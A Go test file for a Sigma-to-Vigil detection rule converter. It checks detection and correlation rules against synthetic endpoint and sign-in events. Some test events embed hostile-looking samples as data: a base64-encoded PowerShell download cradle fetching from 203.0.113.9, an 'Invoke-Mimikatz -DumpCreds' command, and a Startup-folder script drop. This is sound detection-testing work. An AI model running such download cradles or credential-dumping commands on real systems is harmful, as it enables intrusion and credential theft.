package sigma

import (
	"encoding/base64"
	"encoding/json"
	"errors"
	"fmt"
	"os"
	"path/filepath"
	"sort"
	"strings"
	"testing"
	"time"
	"unicode/utf16"

	"github.com/vigil-sec/vigil/operators"
	"github.com/vigil-sec/vigil/pipeline/event"
	"github.com/vigil-sec/vigil/rules"
)

var t0 = time.Date(2025, 4, 2, 9, 0, 0, 0, time.UTC)

func readTestdata(t testing.TB, name string) []byte {
	t.Helper()
	b, err := os.ReadFile(filepath.Join("testdata", name))
	if err != nil {
		t.Fatal(err)
	}
	return b
}

// convertFiles converts testdata files together and compiles the result.
func convertFiles(t testing.TB, names ...string) ([]Result, []Warning, *rules.Set) {
	t.Helper()
	var files [][]byte
	for _, n := range names {
		files = append(files, readTestdata(t, n))
	}
	res, warns, err := ConvertAll(files, Options{})
	if err != nil {
		t.Fatalf("convert %v: %v", names, err)
	}
	var srcs []rules.Source
	for _, r := range res {
		srcs = append(srcs, rules.Source{Name: r.File, Data: r.YAML})
	}
	set, err := rules.LoadSources(srcs, nil, rules.Options{})
	if err != nil {
		t.Fatalf("compile %v: %v", names, err)
	}
	return res, warns, set
}

// runEvents feeds events through a fresh engine the way the correlate stage
// does (once per keyspace key, alerts re-entering as events) and counts
// alerts per rule id.
func runEvents(t testing.TB, set *rules.Set, evs []event.Event) map[string]int {
	t.Helper()
	eng, err := operators.NewEngine(set, operators.NewMemStore(), operators.Options{Lateness: time.Hour})
	if err != nil {
		t.Fatal(err)
	}
	counts := map[string]int{}
	var feed func(ev event.Event, depth int)
	feed = func(ev event.Event, depth int) {
		if depth > 4 {
			t.Fatal("alert chain too deep")
		}
		for _, ks := range set.Keyspaces() {
			for _, k := range ev.Keys(ks) {
				e := ev
				as, err := eng.Process(ks, k, &e)
				if err != nil {
					t.Fatalf("process %s: %v", ev.ID, err)
				}
				for i := range as {
					counts[as[i].RuleID]++
					feed(operators.AlertEvent(&as[i]), depth+1)
				}
			}
		}
	}
	for _, ev := range evs {
		feed(ev, 0)
	}
	as, err := eng.Advance(t0.Add(48 * time.Hour))
	if err != nil {
		t.Fatal(err)
	}
	for _, a := range as {
		counts[a.RuleID]++
	}
	return counts
}

func props(m map[string]any) json.RawMessage {
	b, _ := json.Marshal(map[string]any{"properties": m})
	return b
}

func flat(m map[string]any) json.RawMessage {
	b, _ := json.Marshal(m)
	return b
}

var nid int

func id() string { nid++; return fmt.Sprintf("e%d", nid) }

// proc builds a normalized DeviceProcessEvents event as normalize does.
func proc(path, cmd, parentPath string, raw json.RawMessage) event.Event {
	base := func(p string) string { return strings.ToLower(p[strings.LastIndex(p, `\`)+1:]) }
	e := event.Event{ID: id(), Time: t0, Source: "defender.DeviceProcessEvents", Category: event.CatEndpoint,
		Type: event.TypeProcess, Action: "ProcessCreated", Outcome: event.OutcomeSuccess,
		Device: "ws-17", User: "bob@example.org",
		Process: event.Process{Name: base(path), Path: path, CommandLine: cmd, ParentName: base(parentPath), PID: 4321},
	}
	if raw == nil {
		raw = props(map[string]any{"InitiatingProcessFolderPath": parentPath})
	}
	e.Raw = raw
	return e
}

func withPID(e event.Event, pid int64) event.Event { e.Process.PID = pid; return e }

func netEv(action, dst string, port int) event.Event {
	return event.Event{ID: id(), Time: t0, Source: "defender.DeviceNetworkEvents", Category: event.CatEndpoint,
		Type: event.TypeNetwork, Action: action, Device: "ws-17", User: "bob@example.org",
		SrcIP: "10.0.0.17", SrcPort: 50123, DstIP: dst, DstPort: port, Protocol: "tcp",
		Process: event.Process{Name: "rundll32.exe", Path: `C:\Windows\System32\rundll32.exe`}}
}

func fileEv(action, path string) event.Event {
	return event.Event{ID: id(), Time: t0, Source: "defender.DeviceFileEvents", Category: event.CatEndpoint,
		Type: event.TypeFile, Action: action, Device: "ws-17", User: "bob@example.org",
		File: event.File{Name: path[strings.LastIndex(path, `\`)+1:], Path: path}}
}

func regEv(action, key, value, data string) event.Event {
	return event.Event{ID: id(), Time: t0, Source: "defender.DeviceRegistryEvents", Category: event.CatEndpoint,
		Type: event.TypeRegistry, Action: action, Device: "ws-17", User: "bob@example.org",
		Raw: props(map[string]any{"RegistryKey": key, "RegistryValueName": value, "RegistryValueData": data})}
}

func signIn(user, ip string, at time.Time, raw json.RawMessage) event.Event {
	return event.Event{ID: id(), Time: at, Source: "entra.SignInLogs", Category: event.CatIdentity, Type: event.TypeLogon,
		User: user, SrcIP: ip, App: "Office 365 Exchange Online", Raw: raw}
}

func failure(user, ip string, at time.Time) event.Event {
	return signIn(user, ip, at, flat(map[string]any{"resultType": "50126", "properties": map[string]any{"userPrincipalName": user}}))
}

func success(user, ip string, at time.Time) event.Event {
	return signIn(user, ip, at, flat(map[string]any{"resultType": "0"}))
}

func audit(action string, outcome event.Outcome, initiator, targets string) event.Event {
	return event.Event{ID: id(), Time: t0, Source: "entra.AuditLogs", Category: event.CatIdentity, Type: event.TypeAudit,
		Action: action, Outcome: outcome, User: initiator,
		Raw: props(map[string]any{"initiatedBy": map[string]any{"user": map[string]any{"userPrincipalName": initiator}},
			"targetResources": []any{map[string]any{"modifiedProperties": []any{map[string]any{"displayName": targets}}}}})}
}

func activity(action, caller string, duration any) event.Event {
	return event.Event{ID: id(), Time: t0, Source: "azure.Activity", Category: event.CatCloud, Type: event.TypeAudit,
		Action: action, User: caller, Resource: "/subscriptions/0000/resourcegroups/rg1/providers/microsoft.network/networksecuritygroups/nsg1",
		Raw: flat(map[string]any{"durationMs": duration})}
}

func cloudApp(action, app string) event.Event {
	return event.Event{ID: id(), Time: t0, Source: "defender.CloudAppEvents", Category: event.CatCloud, Type: event.TypeAudit,
		Action: action, App: app, User: "carol@example.org", SrcIP: "203.0.113.30"}
}

func b64(s string) string { return base64.StdEncoding.EncodeToString([]byte(s)) }

func b64wide(s string) string {
	var b []byte
	for _, c := range utf16.Encode([]rune(s)) {
		b = append(b, byte(c), byte(c>>8))
	}
	return base64.StdEncoding.EncodeToString(b)
}

// TestMatchRulesKeepSemantics converts each detection rule, compiles it and
// runs positive and negative normalized events through the operators.
func TestMatchRulesKeepSemantics(t *testing.T) {
	const office = `C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE`
	const ps = `C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`
	const runKey = `HKEY_CURRENT_USER\S-1-5-21-1-2-3-1001\Software\Microsoft\Windows\CurrentVersion\Run`
	signinRaw := func(result any, app, risk string) json.RawMessage {
		p := map[string]any{"clientAppUsed": app}
		if risk != "" {
			p["riskState"] = risk
		}
		return flat(map[string]any{"resultType": result, "properties": p})
	}
	cases := []struct {
		file string
		id   string
		pos  []event.Event
		neg  []event.Event
	}{
		{"proc_office_encoded.yml", "sigma.office_application_spawns_encoded_powershell",
			[]event.Event{
				proc(ps, "powershell.exe -nop /enc SQBFAFgA", office, nil),
				// renamed PowerShell, OriginalFileName from a flat Sentinel row, en-dash switch
				proc(`C:\Users\bob\AppData\Local\Temp\p.exe`, "p.exe \u2013enc SQBFAFgA", `C:\Program Files\Microsoft Office\EXCEL.EXE`,
					flat(map[string]any{"ProcessVersionInfoOriginalFileName": "powershell.exe"})),
			},
			[]event.Event{
				proc(ps, "powershell.exe -nop -enc SQBFAFgA", `C:\Windows\explorer.exe`, nil),
				proc(ps, `powershell.exe -enc X C:\Program Files\Acme\updater-2.ps1`, office, nil),
				proc(ps, "powershell.exe -encodedcommand SQBFAFgA", office, nil),
				proc(`C:\Windows\System32\cmd.exe`, "cmd.exe /c x -enc y", office, nil),
			}},
		{"proc_regex_prefix.yml", "sigma.script_host_runs_from_a_user_temp_folder",
			[]event.Event{proc(`C:\Windows\System32\WScript.exe`, `wscript.exe C:\Users\bob\AppData\Local\Temp\abc123def.js`, `C:\Windows\explorer.exe`, nil)},
			[]event.Event{
				proc(`C:\Windows\System32\wscript.exe`, `wscript.exe C:\Users\bob\Documents\abc123def.js`, `C:\Windows\explorer.exe`, nil),
				proc(`C:\Temp\wscript.exe`, `wscript.exe C:\Users\bob\AppData\Local\Temp\abc123def.js`, `C:\Windows\explorer.exe`, nil),
				proc(`C:\Windows\System32\cscript.exe`, `cscript.exe C:\Users\bob\AppData\Local\Temp\ab.vbs`, `C:\Windows\explorer.exe`, nil),
			}},
		{"proc_glob_null.yml", "sigma.renamed_binary_in_programdata_without_parent_command_line",
			[]event.Event{
				proc(`C:\ProgramData\Acme\svchost.exe`, "svchost.exe -k x", `C:\Windows\explorer.exe`, nil),
				proc(`c:\programdata\a\b\SVCHOST.EXE`, "literalXstar", `C:\Windows\explorer.exe`, nil),
			},
			[]event.Event{
				func() event.Event {
					e := proc(`C:\ProgramData\Acme\svchost.exe`, "svchost.exe", `C:\Windows\services.exe`, nil)
					e.Process.ParentCommandLine = "services.exe"
					return e
				}(),
				proc(`C:\ProgramData\svchost.exe`, "svchost.exe", `C:\Windows\explorer.exe`, nil),
				proc(`C:\ProgramData\Acme\svchost.exe`, "svchost.exe literal*star", `C:\Windows\explorer.exe`, nil),
				proc(`C:\ProgramData\Acme\svchoost.exe`, "svchost.exe", `C:\Windows\explorer.exe`, nil),
			}},
		{"proc_base64.yml", "sigma.base64_encoded_download_cradle",
			[]event.Event{
				proc(ps, "powershell -e "+b64("$x=1;IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/a')"), office, nil),
				proc(ps, "powershell -e "+b64("IEX (New-Object Net.WebClient)"), office, nil),
				proc(ps, "powershell -EncodedCommand "+b64wide("$wc.DownloadString('http://203.0.113.9/b')"), office, nil),
				proc(ps, "powershell -e "+b64("Invoke-Mimikatz -DumpCreds"), office, nil),
			},
			[]event.Event{proc(ps, "powershell -e "+b64("Get-Date; Get-Process"), office, nil)}},
		{"net_cidr_ports.yml", "sigma.outbound_connection_to_rare_port_on_public_address",
			[]event.Event{netEv("ConnectionSuccess", "203.0.113.50", 4444), netEv("ConnectionFailed", "198.51.100.9", 1337)},
			[]event.Event{
				netEv("ConnectionSuccess", "10.1.2.3", 4444),
				netEv("InboundConnectionAccepted", "203.0.113.50", 4444),
				netEv("ConnectionSuccess", "203.0.113.50", 443),
			}},
		{"file_startup_drop.yml", "sigma.script_dropped_into_startup_folder",
			[]event.Event{fileEv("FileCreated", `C:\Users\bob\AppData\Roaming\Microsoft\Windows\Start Menu\Programs\Startup\evil.VBS`)},
			[]event.Event{
				fileEv("FileCreated", `C:\Users\bob\AppData\Roaming\Microsoft\Windows\Start Menu\Programs\Startup\notes.txt`),
				fileEv("FileDeleted", `C:\Users\bob\AppData\Roaming\Microsoft\Windows\Start Menu\Programs\Startup\evil.vbs`),
			}},
		{"registry_run_key.yml", "sigma.run_key_points_into_a_user_profile",
			[]event.Event{regEv("RegistryValueSet", runKey, "Updater", `C:\Users\bob\AppData\Roaming\upd.exe`)},
			[]event.Event{
				regEv("RegistryValueSet", runKey, "Updater", `C:\Program Files\Acme\upd.exe`),
				regEv("RegistryKeyCreated", runKey, "Updater", `C:\Users\bob\AppData\Roaming\upd.exe`),
				regEv("RegistryValueSet", `HKEY_CURRENT_USER\Software\Acme`, "Updater", `C:\Users\bob\upd.exe`),
			}},
		{"signin_legacy_auth.yml", "sigma.legacy_protocol_sign_in_failure_outside_corporate_ranges",
			[]event.Event{
				signIn("u1@example.org", "203.0.113.7", t0, signinRaw("50126", "IMAP4", "none")),
				// Sentinel row: PascalCase columns, numeric ResultType
				signIn("u1@example.org", "203.0.113.7", t0, flat(map[string]any{"ResultType": 50126, "ClientAppUsed": "Authenticated SMTP", "RiskState": "none"})),
			},
			[]event.Event{
				signIn("u1@example.org", "198.51.100.20", t0, signinRaw("50126", "IMAP4", "none")),
				signIn("u1@example.org", "203.0.113.7", t0, signinRaw("50126", "IMAP4", "")),
				signIn("u1@example.org", "203.0.113.7", t0, signinRaw("0", "IMAP4", "none")),
				signIn("u1@example.org", "203.0.113.7", t0, signinRaw("50126", "Browser", "none")),
			}},
		{"audit_app_consent.yml", "sigma.consent_or_credential_added_to_application_by_guest",
			[]event.Event{
				audit("Consent to application", event.OutcomeSuccess, "guest@ext.example.net", "ConsentAction.Permissions"),
				audit("Update application \u2013 Certificates and secrets management", event.OutcomeSuccess, "guest@ext.example.net", "KeyDescription"),
			},
			[]event.Event{
				audit("Consent to application", event.OutcomeSuccess, "root@admins.example.org", "x"),
				audit("Consent to application", event.OutcomeFailure, "guest@ext.example.net", "x"),
				audit("Update application \u2013 Certificates and secrets management", event.OutcomeSuccess, "guest@ext.example.net", "DisplayName"),
			}},
		{"activity_nsg_open.yml", "sigma.slow_network_security_group_rule_write",
			[]event.Event{activity("MICROSOFT.NETWORK/NETWORKSECURITYGROUPS/SECURITYRULES/WRITE", "ops@example.org", 1500)},
			[]event.Event{
				activity("MICROSOFT.NETWORK/NETWORKSECURITYGROUPS/SECURITYRULES/WRITE", "ops@example.org", 20),
				activity("MICROSOFT.NETWORK/NETWORKSECURITYGROUPS/SECURITYRULES/WRITE", "ops@example.org", "slow"),
				activity("MICROSOFT.NETWORK/NETWORKSECURITYGROUPS/SECURITYRULES/WRITE", "", 1500),
				activity("MICROSOFT.NETWORK/NETWORKSECURITYGROUPS/WRITE", "ops@example.org", 1500),
			}},
		{"m365_inbox_rule.yml", "sigma.inbox_rule_created_with_cased_operation_name",
			[]event.Event{cloudApp("New-InboxRule", "exchange")},
			[]event.Event{cloudApp("new-inboxrule", "Exchange"), cloudApp("New-InboxRule", "SharePoint")}},
		{"proc_fieldref_pid.yml", "sigma.process_re_executes_its_parent_image_early_in_boot",
			[]event.Event{withPID(proc(`C:\Windows\System32\svchost.exe`, "svchost.exe -k netsvcs", `c:\windows\system32\svchost.exe`, nil), 640)},
			[]event.Event{
				withPID(proc(`C:\Windows\System32\svchost.exe`, "svchost.exe -k netsvcs", `c:\windows\system32\svchost.exe`, nil), 4000),
				withPID(proc(`C:\Windows\System32\svchost.exe`, "svchost.exe -k netsvcs", `C:\Windows\System32\services.exe`, nil), 640),
			}},
	}
	for _, tc := range cases {
		t.Run(tc.file, func(t *testing.T) {
			res, _, set := convertFiles(t, tc.file)
			if len(res) != 1 || res[0].ID != tc.id {
				t.Fatalf("results = %+v, want one rule %s", res, tc.id)
			}
			for i, ev := range tc.pos {
				if n := runEvents(t, set, []event.Event{ev})[tc.id]; n != 1 {
					t.Errorf("positive %d (%s %q): %d alerts, want 1\n%s", i, ev.Process.Path, ev.Process.CommandLine, n, res[0].YAML)
				}
			}
			for i, ev := range tc.neg {
				if n := runEvents(t, set, []event.Event{ev})[tc.id]; n != 0 {
					t.Errorf("negative %d (%s %q): %d alerts, want 0\n%s", i, ev.Process.Path, ev.Process.CommandLine, n, res[0].YAML)
				}
			}
		})
	}
}

func TestCorrelationRules(t *testing.T) {
	at := func(m int) time.Time { return t0.Add(time.Duration(m) * time.Minute) }
	whoami := func(dev string, m int) event.Event {
		e := proc(`C:\Windows\System32\whoami.exe`, "whoami /all", `C:\Windows\System32\cmd.exe`, nil)
		e.Device, e.Time = dev, at(m)
		return e
	}
	nltest := func(dev string, m int) event.Event {
		e := proc(`C:\Windows\System32\nltest.exe`, "nltest /domain_trusts /all_trusts", `C:\Windows\System32\cmd.exe`, nil)
		e.Device, e.Time = dev, at(m)
		return e
	}
	cases := []struct {
		name  string
		files []string
		ids   []string // every Vigil rule the files must yield
		evs   []event.Event
		want  map[string]int
	}{
		{"spray fires on three users from one IP", []string{"corr_spray.yml"}, []string{"sigma.password_spray_from_one_address"},
			[]event.Event{failure("u1@example.org", "203.0.113.7", at(0)), failure("u2@example.org", "203.0.113.7", at(1)),
				failure("u3@example.org", "203.0.113.7", at(2))},
			map[string]int{"sigma.password_spray_from_one_address": 1}},
		{"spray: one user three times is not a spray", []string{"corr_spray.yml"}, nil,
			[]event.Event{failure("u1@example.org", "203.0.113.7", at(0)), failure("u1@example.org", "203.0.113.7", at(1)),
				failure("u1@example.org", "203.0.113.7", at(2))},
			map[string]int{"sigma.password_spray_from_one_address": 0}},
		{"spray: three IPs do not combine", []string{"corr_spray.yml"}, nil,
			[]event.Event{failure("u1@example.org", "203.0.113.7", at(0)), failure("u2@example.org", "203.0.113.8", at(1)),
				failure("u3@example.org", "203.0.113.9", at(2))},
			map[string]int{"sigma.password_spray_from_one_address": 0}},
		{"spray: outside the timespan", []string{"corr_spray.yml"}, nil,
			[]event.Event{failure("u1@example.org", "203.0.113.7", at(0)), failure("u2@example.org", "203.0.113.7", at(8)),
				failure("u3@example.org", "203.0.113.7", at(16))},
			map[string]int{"sigma.password_spray_from_one_address": 0}},
		{"failures then success chains", []string{"corr_bruteforce_then_success.yml"},
			[]string{"sigma.repeated_failures_followed_by_a_successful_sign_in", "sigma.aad_many_failures"},
			[]event.Event{failure("alice@example.org", "203.0.113.7", at(0)), failure("alice@example.org", "203.0.113.7", at(1)),
				failure("alice@example.org", "203.0.113.7", at(2)), success("alice@example.org", "203.0.113.7", at(5))},
			map[string]int{"sigma.aad_many_failures": 1, "sigma.repeated_failures_followed_by_a_successful_sign_in": 1}},
		{"success before the failures does not chain", []string{"corr_bruteforce_then_success.yml"}, nil,
			[]event.Event{success("alice@example.org", "203.0.113.7", at(0)), failure("alice@example.org", "203.0.113.7", at(1)),
				failure("alice@example.org", "203.0.113.7", at(2)), failure("alice@example.org", "203.0.113.7", at(3))},
			map[string]int{"sigma.aad_many_failures": 1, "sigma.repeated_failures_followed_by_a_successful_sign_in": 0}},
		{"two failures are below the count", []string{"corr_bruteforce_then_success.yml"}, nil,
			[]event.Event{failure("alice@example.org", "203.0.113.7", at(0)), failure("alice@example.org", "203.0.113.7", at(1)),
				success("alice@example.org", "203.0.113.7", at(5))},
			map[string]int{"sigma.aad_many_failures": 0, "sigma.repeated_failures_followed_by_a_successful_sign_in": 0}},
		{"other user's success does not complete", []string{"corr_bruteforce_then_success.yml"}, nil,
			[]event.Event{failure("alice@example.org", "203.0.113.7", at(0)), failure("alice@example.org", "203.0.113.7", at(1)),
				failure("alice@example.org", "203.0.113.7", at(2)), success("bob@example.org", "203.0.113.7", at(5))},
			map[string]int{"sigma.aad_many_failures": 1, "sigma.repeated_failures_followed_by_a_successful_sign_in": 0}},
		{"recon in any order on one host", []string{"corr_recon_burst.yml"}, []string{"sigma.discovery_commands_together_on_one_host"},
			[]event.Event{nltest("ws-1", 0), whoami("ws-1", 2)},
			map[string]int{"sigma.discovery_commands_together_on_one_host": 1}},
		{"recon on two hosts does not combine", []string{"corr_recon_burst.yml"}, nil,
			[]event.Event{nltest("ws-1", 0), whoami("ws-2", 2)},
			map[string]int{"sigma.discovery_commands_together_on_one_host": 0}},
		{"recon beyond the timespan", []string{"corr_recon_burst.yml"}, nil,
			[]event.Event{whoami("ws-1", 0), nltest("ws-1", 6)},
			map[string]int{"sigma.discovery_commands_together_on_one_host": 0}},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			res, _, set := convertFiles(t, tc.files...)
			if tc.ids != nil {
				var got []string
				for _, r := range res {
					got = append(got, r.ID)
				}
				sort.Strings(got)
				want := append([]string(nil), tc.ids...)
				sort.Strings(want)
				if strings.Join(got, ",") != strings.Join(want, ",") {
					t.Fatalf("rules = %v, want %v", got, want)
				}
			}
			counts := runEvents(t, set, tc.evs)
			for id, n := range tc.want {
				if counts[id] != n {
					var dump []string
					for _, r := range res {
						dump = append(dump, string(r.YAML))
					}
					t.Errorf("%s: %d alerts, want %d (all: %v)\n%s", id, counts[id], n, counts, strings.Join(dump, "---\n"))
				}
			}
		})
	}
}

// TestCorrelationShape checks the Vigil constructs each correlation type
// becomes, and the metadata carried over.
func TestCorrelationShape(t *testing.T) {
	res, _, set := convertFiles(t, "corr_spray.yml", "corr_bruteforce_then_success.yml", "corr_recon_burst.yml")
	cases := []struct {
		id        string
		kind      rules.Kind
		keyspace  event.Keyspace
		severity  string
		tactics   []string
		technique []string
		contains  []string
	}{
		{"sigma.password_spray_from_one_address", rules.KindThreshold, event.KeyIP, "high",
			[]string{"TA0006"}, []string{"T1110.003"}, []string{"distinct: User", "having: distinct >= 3", "key: SrcIP", "window: 10m"}},
		{"sigma.aad_many_failures", rules.KindThreshold, event.KeyUser, "low",
			[]string{"TA0006"}, []string{"T1110.001"}, []string{"having: count >= 3"}},
		{"sigma.repeated_failures_followed_by_a_successful_sign_in", rules.KindSequence, event.KeyUser, "critical",
			[]string{"TA0006", "TA0001"}, []string{"T1110.001", "T1078.004"},
			[]string{"rule: sigma.aad_many_failures", "maxspan: 1h"}},
		{"sigma.discovery_commands_together_on_one_host", rules.KindSequence, event.KeyDevice, "high",
			[]string{"TA0007"}, []string{"T1033", "T1482"}, []string{"unordered: true", "maxspan: 5m"}},
	}
	byID := map[string]Result{}
	for _, r := range res {
		byID[r.ID] = r
	}
	for _, tc := range cases {
		r := set.Rule(tc.id)
		if r == nil {
			t.Fatalf("%s missing", tc.id)
		}
		if r.Kind != tc.kind || r.Keyspace != tc.keyspace || string(r.Severity) != tc.severity {
			t.Errorf("%s: kind %s keyspace %s severity %s", tc.id, r.Kind, r.Keyspace, r.Severity)
		}
		if strings.Join(r.Tactics, ",") != strings.Join(tc.tactics, ",") || strings.Join(r.Techniques, ",") != strings.Join(tc.technique, ",") {
			t.Errorf("%s: tactics %v techniques %v", tc.id, r.Tactics, r.Techniques)
		}
		for _, s := range tc.contains {
			if !strings.Contains(string(byID[tc.id].YAML), s) {
				t.Errorf("%s: YAML lacks %q:\n%s", tc.id, s, byID[tc.id].YAML)
			}
		}
	}
	// Detection rules consumed by a correlation (generate: false) are not emitted.
	for _, id := range []string{"sigma.aad_bad_password", "sigma.aad_failure", "sigma.aad_success", "sigma.win_whoami"} {
		if set.Rule(id) != nil {
			t.Errorf("%s emitted although only referenced", id)
		}
	}
}

func TestAttackAndLevel(t *testing.T) {
	cases := []struct {
		tags           []string
		tactics, techs string
		warn           bool
	}{
		{[]string{"attack.execution", "attack.t1059.001"}, "TA0002", "T1059.001", false},
		{[]string{"attack.defense_evasion", "attack.t1027"}, "TA0005", "T1027", false},
		{[]string{"attack.t1110.003"}, "TA0006", "T1110.003", false}, // tactic from the technique
		{[]string{"attack.t1059.999", "attack.execution"}, "TA0002", "T1059", true},
		{[]string{"attack.t9999", "attack.g0016", "cve.2021-44228"}, "", "", true},
		{[]string{"attack.no_such_tactic", "attack.T1003.001"}, "TA0006", "T1003.001", true},
	}
	for _, tc := range cases {
		warned := false
		tac, tech := attackOf(tc.tags, func(string) { warned = true })
		if strings.Join(tac, ",") != tc.tactics || strings.Join(tech, ",") != tc.techs || warned != tc.warn {
			t.Errorf("%v -> %v %v (warned %v), want %s %s (%v)", tc.tags, tac, tech, warned, tc.tactics, tc.techs, tc.warn)
		}
	}
	for level, want := range map[string]string{"critical": "critical", "High": "high", "informational": "informational", "": "medium", "urgent": "medium"} {
		if got := severityOf(level, func(string) {}); got != want {
			t.Errorf("level %q -> %s, want %s", level, got, want)
		}
	}
}

const hdrRule = `title: Test Rule
id: 00000000-0000-4000-8000-00000000abcd
tags: [attack.execution, attack.t1059]
level: low
`

func TestErrorsNameRuleAndConstruct(t *testing.T) {
	proc := "logsource: {product: windows, category: process_creation}\n"
	cases := []struct {
		name, src   string
		unsupported bool
		want        string
	}{
		{"keyword search", proc + "detection:\n  keywords: [mimikatz]\n  condition: keywords", true, "keyword"},
		{"aggregation", proc + "detection:\n  sel: {Image: x}\n  condition: sel | count() by Computer > 5", true, "aggregation"},
		{"near", proc + "detection:\n  a: {Image: x}\n  b: {Image: y}\n  condition: a near b", true, "near"},
		{"expand", proc + "detection:\n  sel: {Image|expand: '%admins%'}\n  condition: sel", true, "|expand"},
		{"unknown modifier", proc + "detection:\n  sel: {Image|frobnicate: x}\n  condition: sel", true, "|frobnicate"},
		{"RE2", proc + "detection:\n  sel: {CommandLine|re: 'a(?=b)'}\n  condition: sel", true, "RE2"},
		{"logsource", "logsource: {product: linux, category: process_creation}\ndetection:\n  sel: {Image: x}\n  condition: sel", true, "product=linux"},
		{"unknown identifier", proc + "detection:\n  sel: {Image: x}\n  condition: sel and other", false, `"other"`},
		{"bad pattern", proc + "detection:\n  sel: {Image: x}\n  condition: 1 of filter_*", false, "filter_*"},
		{"unbalanced", proc + "detection:\n  sel: {Image: x}\n  condition: (sel", false, "missing )"},
		{"bad cidr", proc + "detection:\n  sel: {CommandLine|cidr: 10.0.0.0/33}\n  condition: sel", false, "cidr"},
		{"base64 wildcard", proc + "detection:\n  sel: {CommandLine|base64|contains: 'a*b'}\n  condition: sel", true, "|base64"},
		{"no technique", "title: T2\nlevel: low\ntags: [attack.execution]\n" + proc + "detection:\n  sel: {Image: x}\n  condition: sel", true, "technique"},
		{"3 of", proc + "detection:\n  a: {Image: x}\n  condition: 3 of a", true, "3 of"},
		{"legacy collection", "action: global\n" + proc, true, "action: global"},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			src := tc.src
			if !strings.HasPrefix(src, "title:") {
				src = hdrRule + src
			}
			_, _, err := Convert([]byte(src), Options{})
			if err == nil {
				t.Fatal("converted; want an error")
			}
			if errors.Is(err, ErrUnsupported) != tc.unsupported {
				t.Errorf("errors.Is(ErrUnsupported) = %v, want %v: %v", !tc.unsupported, tc.unsupported, err)
			}
			if !strings.Contains(err.Error(), tc.want) {
				t.Errorf("error %q lacks %q", err, tc.want)
			}
			if tc.name != "legacy collection" && !strings.Contains(err.Error(), "Test Rule") && !strings.Contains(err.Error(), "T2") {
				t.Errorf("error %q does not name the rule", err)
			}
		})
	}
}

func TestCorrelationErrors(t *testing.T) {
	base := `title: Base
name: base
tags: [attack.t1110]
logsource: {product: azure, service: signinlogs}
detection:
  sel: {ResultType: 50126}
  condition: sel
---
`
	cases := []struct {
		name, corr  string
		unsupported bool
		want        string
	}{
		{"lt", "type: event_count\n  rules: [base]\n  group-by: [UserPrincipalName]\n  timespan: 1h\n  condition: {lt: 3}", true, "lt"},
		{"unknown rule", "type: event_count\n  rules: [nope]\n  group-by: [UserPrincipalName]\n  timespan: 1h\n  condition: {gte: 3}", false, `"nope"`},
		{"no entity group-by", "type: event_count\n  rules: [base]\n  group-by: [AppId]\n  timespan: 1h\n  condition: {gte: 3}", true, "group-by"},
		{"bad timespan", "type: event_count\n  rules: [base]\n  group-by: [UserPrincipalName]\n  timespan: 1M\n  condition: {gte: 3}", false, "timespan"},
		{"temporal subset", "type: temporal\n  rules: [base, base2]\n  group-by: [UserPrincipalName]\n  timespan: 1h\n  condition: {gte: 1}", true, "temporal condition"},
		{"value_count without field", "type: value_count\n  rules: [base]\n  group-by: [UserPrincipalName]\n  timespan: 1h\n  condition: {gte: 3}", false, "condition.field"},
	}
	base2 := "---\ntitle: Base2\nname: base2\ntags: [attack.t1110]\nlogsource: {product: azure, service: signinlogs}\ndetection:\n  sel: {ResultType: 0}\n  condition: sel\n"
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			src := base + "title: Corr\ncorrelation:\n  " + tc.corr + "\n" + base2
			_, _, err := ConvertAll([][]byte{[]byte(src)}, Options{})
			if err == nil {
				t.Fatal("converted; want an error")
			}
			if errors.Is(err, ErrUnsupported) != tc.unsupported || !strings.Contains(err.Error(), tc.want) || !strings.Contains(err.Error(), `"Corr"`) {
				t.Errorf("err = %v (unsupported %v), want %q and the rule name", err, errors.Is(err, ErrUnsupported), tc.want)
			}
		})
	}
}

// TestUnknownFieldWarns: an unmapped field reads the raw record and warns.
func TestUnknownFieldWarns(t *testing.T) {
	src := hdrRule + "logsource: {product: windows, category: process_creation}\ndetection:\n  sel: {CurrentDirectory|startswith: 'C:\\Temp\\'}\n  condition: sel\n"
	out, warns, err := Convert([]byte(src), Options{IDPrefix: "imp."})
	if err != nil {
		t.Fatal(err)
	}
	if len(warns) != 1 || !strings.Contains(warns[0].Msg, "CurrentDirectory") || warns[0].Rule != "Test Rule" {
		t.Fatalf("warnings = %v", warns)
	}
	for _, s := range []string{"id: imp.test_rule", `istartswith((Fields.properties?.CurrentDirectory ?? Fields.CurrentDirectory), "C:\\Temp\\")`} {
		if !strings.Contains(string(out), s) {
			t.Errorf("output lacks %q:\n%s", s, out)
		}
	}
}

func TestValueParsing(t *testing.T) {
	cases := []struct {
		in    string
		shape shape
		lit   string
		re    string
	}{
		{`C:\Windows\`, shapeExact, `C:\Windows\`, ""},
		{`*\cmd.exe`, shapeSuffix, `\cmd.exe`, ""},
		{`*mimikatz*`, shapeContains, "mimikatz", ""},
		{`C:\Users\\*`, shapePrefix, `C:\Users\`, ""},
		{`C:\Users\*`, shapeExact, `C:\Users*`, ""},
		{`a\*b`, shapeExact, "a*b", ""},
		{`a\\*`, shapePrefix, `a\`, ""},
		{`*`, shapeAny, "", ""},
		{`a*b?c`, shapeGlob, "", `(?is)^a.*b.c$`},
		{`*a*b*`, shapeGlob, "", `(?is)a.*b`},
	}
	for _, tc := range cases {
		v := parseSStr(tc.in)
		sh, l := v.classify()
		if sh != tc.shape || l != tc.lit {
			t.Errorf("%q: shape %d lit %q, want %d %q", tc.in, sh, l, tc.shape, tc.lit)
		}
		if tc.re != "" && v.regex(false) != tc.re {
			t.Errorf("%q: regex %q, want %q", tc.in, v.regex(false), tc.re)
		}
	}
}

// TestBase64Offset: whatever precedes the value, one of the three variants
// is a substring of the encoded text (the property base64offset exists for).
func TestBase64Offset(t *testing.T) {
	for _, val := range []string{"a", "ab", "abc", "IEX (New-Object", "Invoke-Mimikatz"} {
		vs := base64Offsets(val)
		for pre := 0; pre < 6; pre++ {
			for suf := 0; suf < 4; suf++ {
				enc := b64(strings.Repeat("x", pre) + val + strings.Repeat("y", suf))
				found := false
				for _, v := range vs {
					if strings.Contains(enc, v) {
						found = true
					}
				}
				if !found && len(val) >= 3 {
					t.Errorf("%q with %d before, %d after: %q holds none of %v", val, pre, suf, enc, vs)
				}
			}
